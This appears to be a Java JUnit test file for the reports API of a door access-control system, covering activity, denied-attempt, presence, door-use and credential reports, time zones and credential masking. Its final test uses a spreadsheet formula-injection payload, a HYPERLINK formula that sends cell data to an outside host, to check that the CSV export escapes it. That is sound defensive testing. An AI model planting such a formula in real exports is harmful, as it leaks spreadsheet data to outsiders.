package dev.lintel.controller.api;

import static org.assertj.core.api.Assertions.assertThat;

import dev.lintel.controller.api.ApiClient.Answer;
import dev.lintel.controller.csv.CsvGuard;
import dev.lintel.controller.event.EventDraft;
import dev.lintel.controller.event.EventDraft.Subject;
import dev.lintel.controller.event.EventKind;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/// Each report small and exact; the account is in Europe/Berlin and it is 2026-03-02T11:00:00.123 there.
class ReportsApiTest {
    private static final String REPORTS = "/api/3/reports";
    private static final Subject ADA = new Subject(1L, 7L, "Ada Demo", 1L, "10017777", false);
    private static final Subject ADA_BACK = new Subject(2L, 7L, "Ada Demo", 1L, "10017777", false);
    private static final Subject BEN_PIN = new Subject(2L, 8L, "Ben Demo", 3L, "****", true);
    private static final Map<String, Object> ENTRY = Map.of("reader", "entry");
    private static final Map<String, Object> EXIT = Map.of("reader", "exit");

    @TempDir
    Path folder;

    private ApiBox box;
    private ApiClient client;

    @BeforeEach
    void start() {
        box = new ApiBox(folder);
        client = box.client();
    }

    @AfterEach
    void stop() {
        box.close();
    }

    private void run(String sql) {
        box.database.write(db -> db.run(sql));
    }

    private void person(long id, String first) {
        run("INSERT INTO person (id, account_id, first_name, last_name, enabled, created_at, updated_at) VALUES (" + id
                + ", 1, '" + first + "', 'Demo', 1, 0, 0)");
    }

    private void credential(long id, long person, int type, String value, String createdAt) {
        long at = Instant.parse(createdAt).toEpochMilli();
        run("INSERT INTO credential (id, account_id, person_id, credential_type_id, value, status, created_at,"
                + " updated_at) VALUES (" + id + ", 1, " + person + ", " + type + ", '" + value + "', 'active', " + at
                + ", " + at + ")");
    }

    private static EventDraft at(String instant, EventKind kind, Subject subject, Map<String, Object> additional) {
        return new EventDraft(kind, Instant.parse(instant).toEpochMilli(), 0, subject, additional);
    }

    /// The report in JSON, found to be the same in CSV.
    private List<Map<String, Object>> rows(String query) {
        Answer json = client.get(REPORTS + query);
        assertThat(json.status()).as(json.text()).isEqualTo(200);
        Answer csv = client.send("GET", REPORTS + query, null, "Accept", "text/csv");
        assertThat(csv.status()).isEqualTo(200);
        assertThat(csv.header("Total")).isEqualTo(json.header("Total"));
        var lines = CsvReader.read(csv.text());
        var expected = new ArrayList<Map<String, String>>();
        for (Map<String, Object> row : json.array()) expected.add(cells(row));
        var found = new ArrayList<Map<String, String>>();
        for (List<String> line : lines.subList(1, lines.size())) found.add(named(lines.getFirst(), line));
        assertThat(found).isEqualTo(expected);
        return json.array();
    }

    private static Map<String, String> cells(Map<String, Object> row) {
        var cells = new LinkedHashMap<String, String>();
        row.forEach(
                (name, value) -> cells.put(name, value instanceof String text ? CsvGuard.guarded(text) : shown(value)));
        return cells;
    }

    private static String shown(@Nullable Object value) {
        return value == null ? "" : value.toString();
    }

    private static Map<String, String> named(List<String> header, List<String> line) {
        assertThat(line).hasSameSizeAs(header);
        var row = new LinkedHashMap<String, String>();
        for (int i = 0; i < line.size(); i++) row.put(header.get(i), line.get(i));
        return row;
    }

    private List<Object> column(String query, String name) {
        return rows(query).stream().map(row -> row.get(name)).toList();
    }

    private static String text(List<Map<String, Object>> rows) {
        var lines = new ArrayList<String>();
        for (var row : rows)
            lines.add(String.join(
                    " | ",
                    row.values().stream()
                            .map(value -> value == null ? "-" : value.toString())
                            .toList()));
        return String.join("\n", lines);
    }

    @Test
    void theListHasEachReportWithItsParameters() {
        Answer list = client.get(REPORTS);
        assertThat(list.column("id")).containsExactly(1L, 2L, 3L, 4L, 5L, 6L);
        assertThat(list.column("name"))
                .containsExactly(
                        "Activity",
                        "Denied attempts",
                        "Who is in",
                        "Door use by hour",
                        "Credential inventory",
                        "Dormant credentials");
        assertThat(list.array().getLast()).containsOnlyKeys("id", "name", "description", "parameters");
        assertThat(list.array().getLast().get("parameters"))
                .isEqualTo(List.of(
                        Map.of(
                                "name", "days",
                                "description", "1 to 3650; 90 without it",
                                "type", "integer",
                                "required", false),
                        Map.of(
                                "name", "credential_type_id",
                                "description", "only credentials of this type",
                                "type", "id",
                                "required", false)));
        assertThat(list.header("Total")).isEqualTo("6");
        assertThat(client.get(REPORTS + ".json?per_page=2&page=3").column("id")).containsExactly(5L, 6L);
    }

    @Test
    void activityShowsWhoWasAdmittedAndTurnedAwayOldestFirst() throws Exception {
        box.append(
                at("2026-01-30T10:00:00Z", EventKind.ADMITTED_CARD, ADA, ENTRY), // before the last 30 days
                at("2026-03-02T08:00:00Z", EventKind.ADMITTED_CARD, ADA, ENTRY),
                at("2026-03-02T08:30:00Z", EventKind.FORCED_OPEN, Subject.channel(1), Map.of()), // nobody's activity
                at("2026-03-02T09:00:00Z", EventKind.REJECTED_NO_PERMISSION, BEN_PIN, EXIT),
                at("2026-03-02T09:30:00Z", EventKind.ADMITTED_REQUEST_EXIT, Subject.channel(1), Map.of()));
        assertThat(text(rows("/1"))).isEqualTo("""
                2 | 2026-03-02T09:00:00.000+01:00 | 10 | Admitted (card/fob) | 1 | Front Door | \
                entry | 7 | Ada Demo | ****7777
                4 | 2026-03-02T10:00:00.000+01:00 | 24 | Rejected (unauthorised PIN) | 2 | \
                Back Door | exit | 8 | Ben Demo | ****
                5 | 2026-03-02T10:30:00.000+01:00 | 13 | Admitted (request exit) | 1 | Front Door | - | - | - | -""");
        assertThat(column("/1?channel_id=1", "event_id")).containsExactly(2L, 5L);
        assertThat(column("/1?channel_id=1&channel_id=2", "event_id")).containsExactly(2L, 4L, 5L);
        assertThat(column("/1?channel_id=2,3", "event_id")).containsExactly(4L);
        assertThat(column("/1?person_id=7", "event_id")).containsExactly(2L);
        assertThat(column("/1?since=2026-01-01&person_id=7&channel_id=1", "event_id"))
                .containsExactly(1L, 2L);
        assertThat(column("/1?since=2026-03-02T10:00:00", "event_id")).containsExactly(4L, 5L);
        assertThat(column("/1?since_utc=2026-03-02T09:00:00.001", "event_id")).containsExactly(5L);
        assertThat(column("/1?since=2026-03-02&until=2026-03-02T10:00:00", "event_id"))
                .containsExactly(2L);
        assertThat(column("/1?until_utc=2026-03-02T09:00:00.001Z", "event_id")).containsExactly(2L, 4L);
        assertThat(column("/1?until=2026-02-01", "event_id")).containsExactly(1L);
        assertThat(column("/1?since=2030-01-01&until=2031-01-01", "event_id")).isEmpty();
    }

    @Test
    void codesAreThoseOfWhoAsks() throws Exception {
        box.append(
                at("2026-03-02T08:00:00Z", EventKind.ADMITTED_UNLOCKED, ADA, ENTRY),
                at("2026-03-02T08:01:00Z", EventKind.ADMITTED_CARD, ADA, Map.of("reservation_id", 3)),
                at("2026-03-02T08:02:00Z", EventKind.REJECTED_NO_PERMISSION, BEN_PIN, ENTRY));
        assertThat(column("/1", "event_code")).containsExactly(16L, 10L, 24L);
        ApiClient b = box.client(box.listingBKey);
        assertThat(b.get(REPORTS + "/1").column("event_code")).containsExactly(12L, 13L, 23L);
        assertThat(b.get(REPORTS + "/2").column("event_label")).containsExactly("Denied: no permission");
    }

    @Test
    void timesCountWhereTheClockWasSetBack() throws Exception {
        box.append(
                at("2026-03-02T08:00:00Z", EventKind.ADMITTED_CARD, ADA, ENTRY),
                at("2026-03-02T09:00:00Z", EventKind.ADMITTED_CARD, ADA, ENTRY),
                at("2026-03-02T07:00:00Z", EventKind.ADMITTED_CARD, ADA, ENTRY),
                at("2026-03-02T08:30:00Z", EventKind.ADMITTED_CARD, ADA, ENTRY));
        assertThat(column("/1?since_utc=2026-03-02T08:00:00Z&until_utc=2026-03-02T09:00:00Z", "event_id"))
                .containsExactly(1L, 4L);
        assertThat(column("/1?since_utc=2026-03-02T08:00:00Z&per_page=1&page=2", "event_id"))
                .containsExactly(2L);
    }

    @Test
    void deniedAttemptsSayWhy() throws Exception {
        box.append(
                at("2026-03-02T08:00:00Z", EventKind.ADMITTED_CARD, ADA, ENTRY),
                at(
                        "2026-03-02T08:01:00Z",
                        EventKind.REJECTED_PERSON_DISABLED,
                        ADA,
                        Map.of("reader", "entry", "reason", "person_expired")),
                at("2026-03-02T08:02:00Z", EventKind.REJECTED_OUT_OF_HOURS, BEN_PIN, ENTRY),
                at(
                        "2026-03-02T08:03:00Z",
                        EventKind.REJECTED_UNKNOWN_CARD,
                        new Subject(1L, null, null, null, "99", false),
                        ENTRY));
        assertThat(text(rows("/2"))).isEqualTo("""
                2 | 2026-03-02T09:01:00.000+01:00 | 20 | Rejected (unauthorised card/fob) | 1 | \
                Front Door | entry | 7 | Ada Demo | ****7777 | person_expired
                3 | 2026-03-02T09:02:00.000+01:00 | 21 | Rejected (out of hours) | 2 | Back Door | \
                entry | 8 | Ben Demo | **** | out_of_hours
                4 | 2026-03-02T09:03:00.000+01:00 | 20 | Rejected (unauthorised card/fob) | 1 | \
                Front Door | entry | - | - | ****99 | unknown_card""");
        assertThat(column("/2?person_id=8", "event_id")).containsExactly(3L);
    }

    @Test
    void whoeverCameInLastIsInUntilTheyGoOut() throws Exception {
        Subject cleo = new Subject(1L, 9L, "Cleo Demo", 4L, "4", false);
        box.append(
                at("2026-03-01T09:00:00Z", EventKind.ADMITTED_CARD, cleo, ENTRY), // more than 24 hours ago
                at("2026-03-02T07:00:00Z", EventKind.ADMITTED_CARD, ADA, ENTRY),
                at("2026-03-02T08:00:00Z", EventKind.ADMITTED_CARD, ADA_BACK, EXIT),
                at("2026-03-02T08:10:00Z", EventKind.ADMITTED_PIN, BEN_PIN, ENTRY),
                at("2026-03-02T08:20:00Z", EventKind.ADMITTED_PIN, BEN_PIN, EXIT),
                at("2026-03-02T09:00:00Z", EventKind.ADMITTED_CARD, ADA, ENTRY),
                at("2026-03-02T09:10:00Z", EventKind.REJECTED_NO_PERMISSION, ADA, EXIT)); // did not get out
        assertThat(text(rows("/3"))).isEqualTo("""
                7 | Ada Demo | in | 2026-03-02T10:00:00.000+01:00 | 1 | Front Door | \
                2026-03-02T09:00:00.000+01:00 | 2 | Back Door | -""");
        assertThat(text(rows("/3?status=out"))).isEqualTo("""
                8 | Ben Demo | out | 2026-03-02T09:10:00.000+01:00 | 2 | Back Door | \
                2026-03-02T09:20:00.000+01:00 | 2 | Back Door | -""");
        assertThat(column("/3?status=all&since=2026-03-01", "person_id")).containsExactly(7L, 8L, 9L);
        assertThat(column("/3?since=2026-03-01", "person_id")).containsExactly(7L, 9L);
        assertThat(column("/3?status=all&since=2026-03-01&per_page=1&page=2", "person_id"))
                .containsExactly(8L);
    }

    @Test
    void whereDoorsKnowAreasGoingOutIsGoingIntoTheOutermost() throws Exception {
        run("UPDATE channel SET passback_from = 'outside', passback_to = 'hall' WHERE id = 1");
        run("UPDATE channel SET passback_from = 'hall', passback_to = 'vault' WHERE id = 2");
        box.append(
                at("2026-03-02T07:00:00Z", EventKind.ADMITTED_CARD, ADA, Map.of("reader", "entry", "area", "vault")),
                at("2026-03-02T08:00:00Z", EventKind.ADMITTED_CARD, ADA_BACK, Map.of("reader", "exit", "area", "hall")),
                at(
                        "2026-03-02T08:10:00Z",
                        EventKind.ADMITTED_PIN,
                        BEN_PIN,
                        Map.of("reader", "exit", "area", "outside")));
        assertThat(text(rows("/3?status=all"))).isEqualTo("""
                7 | Ada Demo | in | 2026-03-02T09:00:00.000+01:00 | 2 | Back Door | - | - | - | hall
                8 | Ben Demo | out | - | - | - | 2026-03-02T09:10:00.000+01:00 | 2 | Back Door | outside""");
    }

    @Test
    void doorUseCountsEveryHourOfEachDoor() throws Exception {
        box.append(
                at("2026-03-02T08:00:00Z", EventKind.ADMITTED_CARD, ADA, ENTRY),
                at("2026-03-02T08:59:59.999Z", EventKind.REJECTED_PASSBACK, ADA, ENTRY),
                at("2026-03-02T09:00:00Z", EventKind.ADMITTED_CARD, ADA, ENTRY),
                at("2026-03-02T09:10:00Z", EventKind.ADMITTED_REQUEST_EXIT, Subject.channel(1), Map.of()),
                at("2026-03-02T09:20:00Z", EventKind.FORCED_OPEN, Subject.channel(1), Map.of()),
                at("2026-03-02T09:30:00Z", EventKind.ADMITTED_PIN, BEN_PIN, ENTRY),
                at(
                        "2026-03-02T09:40:00Z",
                        EventKind.ADMITTED_CARD,
                        new Subject(9L, null, null, null, null, false),
                        ENTRY));
        assertThat(text(rows("/4?since=2026-03-02T09:30&until=2026-03-02T11:00")))
                .isEqualTo("""
                2026-03-02T09:00:00.000+01:00 | 1 | Front Door | 1 | 1
                2026-03-02T09:00:00.000+01:00 | 2 | Back Door | 0 | 0
                2026-03-02T09:00:00.000+01:00 | 9 | - | 0 | 0
                2026-03-02T10:00:00.000+01:00 | 1 | Front Door | 2 | 0
                2026-03-02T10:00:00.000+01:00 | 2 | Back Door | 1 | 0
                2026-03-02T10:00:00.000+01:00 | 9 | - | 1 | 0""");
        var day = "/4?since=2026-03-01&until=2026-03-02";
        assertThat(rows(day)).hasSize(48); // a door that is gone shows only where it was used
        assertThat(column("/4?since=2026-03-02T10:00&until=2026-03-02T11:00&channel_id=2", "admitted"))
                .containsExactly(1L);
        assertThat(column("/4?since=2026-03-02T08:00&until=2026-03-02T11:00&channel_id=1,2&per_page=3&page=2", "hour"))
                .containsExactly(
                        "2026-03-02T09:00:00.000+01:00",
                        "2026-03-02T10:00:00.000+01:00",
                        "2026-03-02T10:00:00.000+01:00");
        assertThat(client.get(REPORTS + "/4?channel_id=1").header("Total")).isEqualTo("169"); // 7 days and this hour
    }

    @Test
    void daysOnWhichClocksAreSetHave23And25Hours() throws Exception {
        box.append(
                at("2025-03-30T00:59:59Z", EventKind.ADMITTED_CARD, ADA, ENTRY),
                at("2025-03-30T01:00:00Z", EventKind.ADMITTED_CARD, ADA, ENTRY),
                at("2025-10-26T00:30:00Z", EventKind.ADMITTED_CARD, ADA, ENTRY),
                at("2025-10-26T01:30:00Z", EventKind.REJECTED_LOCKDOWN, ADA, ENTRY),
                at("2025-10-26T01:40:00Z", EventKind.REJECTED_LOCKDOWN, ADA, ENTRY));
        var spring = rows("/4?since=2025-03-30&until=2025-03-31&channel_id=1");
        assertThat(spring).hasSize(23);
        assertThat(text(spring.subList(1, 3))).isEqualTo("""
                2025-03-30T01:00:00.000+01:00 | 1 | Front Door | 1 | 0
                2025-03-30T03:00:00.000+02:00 | 1 | Front Door | 1 | 0""");
        var autumn = rows("/4?since=2025-10-26&until=2025-10-27&channel_id=1");
        assertThat(autumn).hasSize(25);
        assertThat(text(autumn.subList(2, 4))).isEqualTo("""
                2025-10-26T02:00:00.000+02:00 | 1 | Front Door | 1 | 0
                2025-10-26T02:00:00.000+01:00 | 1 | Front Door | 0 | 2""");
    }

    @Test
    void theInventoryShowsNoPinAndOnlyTheEndOfACard() {
        person(7, "Ada");
        person(8, "Ben");
        run("UPDATE person SET enabled = 0 WHERE id = 8");
        credential(1, 7, 1, "10017777", "2026-01-01T00:00:00Z");
        credential(2, 7, 3, "4711", "2026-01-01T00:00:00Z");
        credential(3, 8, 2, "42", "2026-01-01T00:00:00Z");
        credential(4, 8, 4, "5812", "2026-01-01T00:00:00Z");
        credential(5, 8, 5, "secret", "2026-01-01T00:00:00Z");
        run("UPDATE credential SET status = 'revoked' WHERE id = 3");
        String made = " | 2026-01-01T01:00:00.000+01:00 | 2026-01-01T01:00:00.000+01:00";
        assertThat(text(rows("/5")))
                .isEqualTo("1 | 1 | Card | ****7777 | active | 7 | Ada Demo | true" + made + "\n"
                        + "2 | 3 | PIN | **** | active | 7 | Ada Demo | true" + made + "\n"
                        + "3 | 2 | Key fob | ****42 | revoked | 8 | Ben Demo | false" + made + "\n"
                        + "4 | 4 | Multi-factor PIN | **** | active | 8 | Ben Demo | false" + made + "\n"
                        + "5 | 5 | Mobile | - | active | 8 | Ben Demo | false" + made);
        for (String format : List.of("json", "csv")) {
            assertThat(client.get(REPORTS + "/5?format=" + format).text())
                    .doesNotContain("4711")
                    .doesNotContain("5812")
                    .doesNotContain("10017777")
                    .doesNotContain("secret");
        }
        assertThat(column("/5?credential_type_id=3", "credential_id")).containsExactly(2L);
        assertThat(column("/5?status=revoked", "credential_id")).containsExactly(3L);
    }

    @Test
    void dormantIsWhatNobodyShowedNorMadeForSoManyDays() throws Exception {
        person(7, "Ada");
        person(8, "Ben");
        credential(1, 7, 1, "10017777", "2025-01-01T00:00:00Z"); // used today, turned away: somebody has it
        credential(2, 7, 2, "20028888", "2025-01-01T00:00:00Z"); // used long ago
        credential(3, 8, 3, "4711", "2025-01-01T00:00:00Z"); // never used
        credential(4, 8, 4, "5812", "2025-01-01T00:00:00Z"); // a second factor has no events
        credential(5, 8, 1, "30039999", "2026-02-01T00:00:00Z"); // made lately
        Subject fob = new Subject(1L, 7L, "Ada Demo", 2L, "20028888", false);
        box.append(
                at("2025-06-01T08:00:00Z", EventKind.ADMITTED_CARD, fob, ENTRY),
                at("2025-07-01T08:00:00Z", EventKind.ADMITTED_CARD, fob, ENTRY),
                at("2026-03-02T08:00:00Z", EventKind.REJECTED_NO_PERMISSION, ADA, ENTRY));
        String made = " | 2025-01-01T01:00:00.000+01:00 | 2025-01-01T01:00:00.000+01:00 | ";
        assertThat(text(rows("/6")))
                .isEqualTo("2 | 2 | Key fob | ****8888 | active | 7 | Ada Demo | true" + made
                        + "2025-07-01T10:00:00.000+02:00\n"
                        + "3 | 3 | PIN | **** | active | 8 | Ben Demo | true" + made + "-");
        assertThat(column("/6?days=20", "credential_id")).containsExactly(2L, 3L, 5L);
        assertThat(column("/6?days=300", "credential_id")).containsExactly(3L);
        assertThat(column("/6?credential_type_id=2", "credential_id")).containsExactly(2L);
        box.time.advance(Duration.ofDays(91));
        assertThat(column("/6", "credential_id")).containsExactly(1L, 2L, 3L, 5L);
    }

    @Test
    void aNameThatIsAFormulaIsTextInASpreadsheet() throws Exception {
        var eve = new Subject(1L, 9L, "=HYPERLINK(\"http://x?\"&A1,\"Eve, there\")", 9L, "9", false);
        box.append(at("2026-03-02T08:00:00Z", EventKind.ADMITTED_CARD, eve, ENTRY));
        assertThat(column("/1", "person_name")).containsExactly(eve.personName());
        assertThat(client.get(REPORTS + "/1?format=csv").text())
                .contains(",\"'=HYPERLINK(\"\"http://x?\"\"&A1,\"\"Eve, there\"\")\",");
    }
}
